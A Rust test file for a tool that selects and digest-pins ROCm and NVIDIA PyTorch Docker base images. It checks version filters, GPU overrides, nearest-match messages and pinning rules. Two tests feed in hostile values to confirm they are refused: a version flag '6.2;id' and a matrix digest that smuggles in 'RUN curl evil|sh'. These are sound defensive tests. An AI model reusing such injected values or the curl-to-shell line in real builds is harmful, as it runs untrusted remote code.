//! Base-image selection: filters, gfx overrides, nearest lists, unconfirmed tags and digest pinning.

use super::{m, req, usage, usage_with};
use rocmenv::dockerfile::{render, select_base, Stack};
use rocmenv::matrix::Matrices;

#[test]
fn rocm_filters_pick_the_newest_match() {
    let mut r = req(Stack::Rocm);
    r.rocm = Some("6.4".into());
    r.pytorch = Some("2.5".into());
    r.ubuntu = Some("22.04".into());
    r.python = Some("3.11".into());
    let b = select_base(&r, m()).unwrap();
    assert_eq!(
        b.reference,
        "rocm/pytorch:rocm6.4.2_ubuntu22.04_py3.11_pytorch_release_2.5.1"
    );
    assert_eq!(b.matrix_release, "rocm-6.4.2");
    assert!(!b.unconfirmed);
}

#[test]
fn pytorch_prefix_matches_whole_parts_only() {
    let mut r = req(Stack::Rocm);
    r.pytorch = Some("2.1".into());
    let b = select_base(&r, m()).unwrap();
    assert_eq!(b.pytorch.as_deref(), Some("2.1.2"));
    // No listed image carries PyTorch 2.10 (rocm.yaml keeps only tags in a release's PyTorch list),
    // so `2.10` must not fall back to the 2.1.x images.
    r.pytorch = Some("2.10".into());
    assert_eq!(usage(&r).0, "pytorch");
}

#[test]
fn gfx_override_reaches_releases_that_build_the_target() {
    // gfx1031 is not built by the legacy releases; gpus.yaml sends it to gfx1030, so releases building gfx1030
    // qualify. (ROCm 10.0.0's wheels build it: see core_sdk_wheels_follow_the_gpus_and_the_pytorch_flag.)
    let mut r = req(Stack::Rocm);
    r.rocm = Some("7.2".into());
    r.gfx = vec!["gfx1031".parse().unwrap()];
    let b = select_base(&r, m()).unwrap();
    assert!(
        b.notes
            .iter()
            .any(|n| n.contains("HSA_OVERRIDE_GFX_VERSION=10.3.0")),
        "{:?}",
        b.notes
    );
}

#[test]
fn gfx_with_crashing_override_is_refused_with_nearest() {
    // gfx1010's override crashes (different ISA), so no 7.x legacy release runs it (10.0.0 builds it natively).
    let mut r = req(Stack::Rocm);
    r.rocm = Some("7.2".into());
    r.gfx = vec!["gfx1010".parse().unwrap()];
    let (flag, message) = usage(&r);
    assert_eq!(flag, "rocm/gfx");
    assert!(message.contains("ROCm 7.2 running gfx1010"), "{message}");
    // The nearest are what runs it: 10.0.0's wheels, whose libraries are built for gfx1010.
    let nearest = message.split("nearest: ").nth(1).expect("a nearest list");
    assert!(
        nearest.starts_with("torch 2.13.0+rocm10.0.0 wheels on ubuntu:24.04"),
        "{message}"
    );
    assert!(!nearest.contains("rocm7"), "{message}");
}

#[test]
fn unknown_rocm_pytorch_combination_lists_nearest() {
    let mut r = req(Stack::Rocm);
    r.rocm = Some("6.9".into());
    r.pytorch = Some("2.4".into());
    let (flag, message) = usage(&r);
    assert_eq!(flag, "rocm/pytorch");
    assert!(
        message.starts_with(
            "no rocm/pytorch image or ROCm wheels for ROCm 6.9 (not a release in the matrices; newest 6.x: 6.4.4) with PyTorch 2.4; nearest: "
        ),
        "{message}"
    );
    let list = message.split("nearest: ").nth(1).unwrap();
    let tags: Vec<&str> = list.split(", ").collect();
    assert_eq!(tags.len(), 5, "{message}");
    assert!(
        tags.iter()
            .all(|t| t.contains("pytorch_release_2.4") || t.contains("pytorch_2.4")),
        "{message}"
    );
    assert!(tags[0].starts_with("rocm6.4"), "{message}");
}

#[test]
fn bad_version_flags_are_usage_errors() {
    let mut r = req(Stack::Rocm);
    r.rocm = Some("6.2;id".into());
    assert_eq!(usage(&r).0, "rocm");
    let mut r = req(Stack::Rocm);
    r.python = Some("three".into());
    assert_eq!(usage(&r).0, "python");
}

#[test]
fn unconfirmed_tag_gets_a_note_and_a_label() {
    let mut r = req(Stack::Rocm);
    r.rocm = Some("7.2.0".into());
    let out = render(&r, m()).unwrap();
    assert!(
        out.notes.iter().any(|n| n.contains("unconfirmed")),
        "{:?}",
        out.notes
    );
    assert_eq!(out.labels["io.rocmenv.tag-confidence"], "unconfirmed");
    assert!(
        out.dockerfile
            .contains("# Note: the matrix marks tag rocm7.2_"),
        "{}",
        out.dockerfile
    );
    r.rocm = Some("6.4.2".into());
    let out = render(&r, m()).unwrap();
    assert!(!out.labels.contains_key("io.rocmenv.tag-confidence"));
}

#[test]
fn ngc_unknown_release_lists_nearest() {
    let mut r = req(Stack::Ngc);
    r.ngc = Some("24.13".into());
    let (flag, message) = usage(&r);
    assert_eq!(flag, "ngc");
    assert!(
        message.contains("nearest: ") && message.contains("24.12"),
        "{message}"
    );
}

#[test]
fn ngc_without_driver_takes_newest_and_says_so() {
    let m = m();
    let b = select_base(&req(Stack::Ngc), m).unwrap();
    assert_eq!(
        b.matrix_release,
        format!("ngc-{}", m.ngc.releases.last().unwrap().release)
    );
    assert!(b.notes.iter().any(|n| n.contains("no NVIDIA driver known")));
}

#[test]
fn ngc_auto_pick_fits_the_driver() {
    let m = m();
    let mut r = req(Stack::Ngc);
    r.driver = Some("550.54.15".parse().unwrap());
    let b = select_base(&r, m).unwrap();
    let rel = m
        .ngc_release(b.matrix_release.trim_start_matches("ngc-"))
        .unwrap();
    assert!(rel.min_driver <= "550.54.15".parse().unwrap());
    assert!(m
        .ngc
        .releases
        .iter()
        .filter(|x| x.release > rel.release)
        .all(|x| x.min_driver > "550.54.15".parse().unwrap()));
    assert_eq!(b.cuda.as_deref(), Some(rel.cuda.to_string().as_str()));
}

#[test]
fn every_base_must_be_pinned() {
    for stack in [Stack::Cpu, Stack::Rocm, Stack::Ngc] {
        for unpinned in ["debian", "debian:latest", "localhost:5000/debian"] {
            let mut r = req(stack);
            r.base = Some(unpinned.into());
            let (flag, message) = usage(&r);
            assert_eq!(flag, "base");
            assert!(message.contains("not pinned"), "{message}");
        }
    }
}

/// Issue 10: without a registry, `build --stack rocm` advised `--base IMAGE`, which the rocm stack refused. Now
/// `--base` names a copy (a mirror, a loaded image) of the image the matrices pick: FROM changes, the facts stay.
#[test]
fn rocm_and_ngc_take_a_copy_of_their_base() {
    let m = Matrices::embedded().unwrap();
    for (stack, mirror) in [
        (Stack::Rocm, "registry.local:5000/rocm/pytorch:mirrored"),
        (Stack::Ngc, "registry.local:5000/nvidia/pytorch:mirrored"),
    ] {
        let picked = select_base(&req(stack), &m).unwrap();
        let mut r = req(stack);
        r.base = Some(mirror.into());
        let b = select_base(&r, &m).unwrap();
        assert_eq!(b.reference, mirror);
        assert_eq!(b.matrix_release, picked.matrix_release);
        assert_eq!(
            (&b.rocm, &b.cuda, &b.pytorch),
            (&picked.rocm, &picked.cuda, &picked.pytorch)
        );
        assert!(
            b.notes
                .iter()
                .any(|n| n.contains(&picked.reference) && n.contains("(--base)")),
            "{:?}",
            b.notes
        );
        let out = render(&r, &m).unwrap();
        assert!(
            out.dockerfile.contains(&format!("\nFROM {mirror}\n")),
            "{}",
            out.dockerfile
        );
    }
}

/// A copy of the shipped matrices with `from` replaced by `to` in `file`.
fn matrices_with(file: &str, from: &str, to: &str) -> (tempfile::TempDir, Matrices) {
    let d = tempfile::tempdir().unwrap();
    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("matrices");
    for name in rocmenv::matrix::MATRIX_FILES {
        let mut text = std::fs::read_to_string(src.join(name)).unwrap();
        if name == file {
            assert!(text.contains(from), "{from} not in {file}");
            text = text.replace(from, to);
        }
        std::fs::write(d.path().join(name), text).unwrap();
    }
    let m = Matrices::load_dir(d.path()).unwrap();
    (d, m)
}

#[test]
fn digest_in_the_matrix_pins_the_from_line() {
    let hex = "0123456789abcdef".repeat(4);
    let (_d, m) = matrices_with(
        "rocm.yaml",
        "pytorch_release_2.6.0, ubuntu: \"24.04\", python: \"3.12\", pytorch: \"2.6.0\"}",
        &format!("pytorch_release_2.6.0, ubuntu: \"24.04\", python: \"3.12\", pytorch: \"2.6.0\", digest: \"sha256:{hex}\"}}"),
    );
    let mut r = req(Stack::Rocm);
    r.rocm = Some("6.4.2".into());
    r.pytorch = Some("2.6".into());
    r.ubuntu = Some("24.04".into());
    let out = render(&r, &m).unwrap();
    let want = format!(
        "FROM rocm/pytorch:rocm6.4.2_ubuntu24.04_py3.12_pytorch_release_2.6.0@sha256:{hex}\n"
    );
    assert!(out.dockerfile.contains(&want), "{}", out.dockerfile);
    assert_eq!(
        out.labels["org.opencontainers.image.base.digest"],
        format!("sha256:{hex}")
    );

    let (_d, m) = matrices_with(
        "ngc.yaml",
        "min_driver: \"545\", datacenter_drivers: [\"470.57\", \"525.85\", \"535.86\", \"545.23\"], source: \"https://docs.nvidia.com/deeplearning/frameworks/pytorch-release-notes/rel-24-05.html;",
        &format!("min_driver: \"545\", digest: \"{hex}\", source: \"https://docs.nvidia.com/deeplearning/frameworks/pytorch-release-notes/rel-24-05.html;"),
    );
    let mut r = req(Stack::Ngc);
    r.ngc = Some("24.05".into());
    let out = render(&r, &m).unwrap();
    assert!(
        out.dockerfile.contains(&format!(
            "FROM nvcr.io/nvidia/pytorch:24.05-py3@sha256:{hex}\n"
        )),
        "{}",
        out.dockerfile
    );
}

#[test]
fn hostile_matrix_digest_is_refused() {
    // The loader checks tags; a digest reaches the FROM line only through `sanitize::image_reference`.
    let (_d, m) = matrices_with(
        "ngc.yaml",
        "min_driver: \"545\", datacenter_drivers: [\"470.57\", \"525.85\", \"535.86\", \"545.23\"], source: \"https://docs.nvidia.com/deeplearning/frameworks/pytorch-release-notes/rel-24-05.html;",
        "min_driver: \"545\", digest: \"sha256:00\\nRUN curl evil|sh\", source: \"https://docs.nvidia.com/deeplearning/frameworks/pytorch-release-notes/rel-24-05.html;",
    );
    let mut r = req(Stack::Ngc);
    r.ngc = Some("24.05".into());
    assert_eq!(usage_with(&r, &m).0, "matrices");
}

#[test]
fn flags_of_another_stack_are_refused() {
    let mut r = req(Stack::Cpu);
    r.rocm = Some("6.2".into());
    assert_eq!(usage(&r).0, "rocm");
    let mut r = req(Stack::Rocm);
    r.ngc = Some("24.05".into());
    assert_eq!(usage(&r).0, "ngc");
    // A detected GPU or driver may be passed whatever the stack; it only labels rocm images.
    let mut r = req(Stack::Cpu);
    r.gfx = vec!["gfx90a".parse().unwrap()];
    r.driver = Some("550.54.15".parse().unwrap());
    assert!(!render(&r, m())
        .unwrap()
        .labels
        .contains_key("io.rocmenv.gfx"));
}
